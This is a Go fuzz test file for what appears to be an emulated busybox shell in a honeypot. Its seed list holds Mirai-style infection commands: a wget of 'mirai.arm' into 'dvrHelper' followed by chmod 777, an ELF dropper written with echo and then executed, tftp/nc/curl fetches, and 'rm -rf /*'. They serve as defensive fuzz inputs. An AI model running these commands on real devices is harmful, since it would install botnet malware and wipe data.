package busybox

import (
	"context"
	"errors"
	"strings"
	"testing"
	"time"
)

var shellSeeds = []string{
	`/bin/busybox echo -e '\x6b\x61\x6d\x69/tmp' > /tmp/.nippon; /bin/busybox cat /tmp/.nippon; /bin/busybox rm /tmp/.nippon`,
	`cd /tmp/; /bin/busybox cp /bin/echo dvrHelper; >dvrHelper; /bin/busybox chmod 777 dvrHelper; /bin/busybox ECCHI`,
	`/bin/busybox wget http://1.2.3.4:80/bins/mirai.arm -O - > dvrHelper; /bin/busybox chmod 777 dvrHelper`,
	`cd /var/; (cat .s || cp /bin/echo .s); echo -ne "\x7f\x45\x4c\x46" > .s; ./.s>.i; chmod +x .i; ./.i`,
	`tftp -g -l x -r y 1.2.3.4 69; ftpget -u a -p b h l r; nc h 1 > f; curl -O http://x/y`,
	`echo 'unterminated`, `a && || b`, `ls | | x`, `rm -rf /*; ls -la / /tmp`, `dd if=/dev/zero of=/tmp/z bs=1M count=2`,
	`echo "a\"b" 'c' d\ e 2>&1 >>f <g`, `{ x; } & y || z`,
	// The constructs of the stop-5 review: deep $( ), $( ) in $(( )),
	// ${ } with words of their own, globs in every component, exec,
	// readonly, ls -R, $RANDOM.
	`echo $(echo $(echo $(echo $(echo hi))))`, `echo $(( $(echo 2) + 3 )) $((x+$(echo 1))) $((` + "`echo 4`" + `*2))`,
	`echo ${x:-${y:-${z:-"a b"}}} ${x:=v} ${x:+v} ${#x} ${x#*/} ${x%.*} ${x//a/"b c"} ${x:1:2} ${u?msg}`,
	`echo ${x:-$(echo a)} ${x:-` + "`echo b`" + `} "${x:-'q'}" ${x:-a\}b} ${x:-"}"}`, `echo /pro*/c*info /*/busybox */* .*/ /e*//p*`,
	`exec >/tmp/o; echo hi; exec 2>&1; exec >/dev/tty; cat /tmp/o; exec sh; exec echo x`, `readonly x=1; x=2; unset x; export x=3; readonly`,
	`ls -R / | head; ls -lR /mnt /tmp; echo $RANDOM $RANDOM`, `while true; do echo x; done`, `f() { f; }; f`,
	`mkdir -p /tmp/a/b; cp -r /tmp/a /tmp/c; mv /tmp/c /tmp/a/b; find /tmp -type f -exec cat {} \; ; find / -name x -exec echo {} +`,
	`grep -r root /etc /tmp; echo a b c | xargs -n1 echo | tee /tmp/t; rmdir /tmp/a /tmp; ls -A /tmp`,
}

func FuzzParseCommandLine(f *testing.F) {
	for _, s := range shellSeeds {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, line string) {
		if len(line) > maxLine {
			line = line[:maxLine]
		}
		l, err := parseLine(line)
		if err != nil {
			if !errors.Is(err, errTooComplex) && !strings.HasPrefix(err.Error(), "sh: ") {
				t.Fatalf("error %q does not look like sh's", err)
			}
			return
		}
		if n := countCmds(t, l, 0); n > maxCommands {
			t.Fatalf("%d commands", n)
		}
	})
}

// countCmds walks a parsed line, checking its bounds.
func countCmds(t *testing.T, l *list, depth int) int {
	if l == nil {
		return 0
	}
	if depth > 3*maxDepth {
		t.Fatalf("nesting over %d", depth)
	}
	n := 0
	var words func(ws []word, depth int)
	words = func(ws []word, depth int) {
		if depth > 3*maxDepth {
			t.Fatalf("word nesting over %d", depth)
		}
		for _, w := range ws {
			for _, p := range w.parts {
				if p.kind == pSubst {
					n += countCmds(t, p.sub, depth+1)
				}
				for _, a := range []*word{p.arg, p.rep} {
					if a != nil {
						words([]word{*a}, depth+1)
					}
				}
			}
		}
	}
	for _, ao := range l.items {
		if len(ao.ops) != len(ao.pipes)-1 {
			t.Fatalf("%d ops for %d pipelines", len(ao.ops), len(ao.pipes))
		}
		for _, pl := range ao.pipes {
			for _, c := range pl.cmds {
				n++
				if len(c.args) > maxArgs || len(c.assign) > maxArgs {
					t.Fatalf("%d args", len(c.args))
				}
				words(c.args, depth)
				words(c.assign, depth)
				n += countCmds(t, c.body, depth+1) + countCmds(t, c.cond, depth+1)
				for i := range c.conds {
					n += countCmds(t, c.conds[i], depth+1) + countCmds(t, c.thens[i], depth+1)
				}
			}
		}
	}
	return n
}

// FuzzShell runs whole sessions through one shell per input: the input is
// split into lines (state carries over, as in a real session), each run
// with a live context. Whatever the lines, the shell must not panic, and
// what it prints and stores stays bounded.
func FuzzShell(f *testing.F) {
	for _, s := range shellSeeds {
		f.Add(s)
	}
	// A panic found in review needed three lines of state to reach.
	f.Add("mkdir '/tmp/*'; touch '/tmp/*/.x'\nV='/tmp/\\*/'\necho $V")
	f.Add("X=$(cat /dev/zero)\nX=$X$X$X\necho \"$X$X$X$X\"")
	p := DefaultProfile()
	dev := newDevice(p, DefaultLimits())
	f.Fuzz(func(t *testing.T, input string) {
		if len(input) > 4*maxLine {
			input = input[:4*maxLine]
		}
		sh := newShell(dev)
		defer sh.close()
		lines := strings.SplitN(input, "\n", 8)
		for _, line := range lines {
			if len(line) > maxLine {
				line = line[:maxLine]
			}
			ctx, cancel := context.WithTimeout(context.Background(), 200*time.Millisecond)
			out := sh.run(ctx, line)
			cancel()
			if len(out) > maxOutput {
				t.Fatalf("%d bytes of output", len(out))
			}
			if len(sh.downloads) > maxDownloads {
				t.Fatalf("%d downloads", len(sh.downloads))
			}
		}
		if sh.fs.bytes > maxOverlayBytes || sh.fs.files > maxOverlayFiles {
			t.Fatalf("overlay %d bytes, %d files", sh.fs.bytes, sh.fs.files)
		}
	})
}
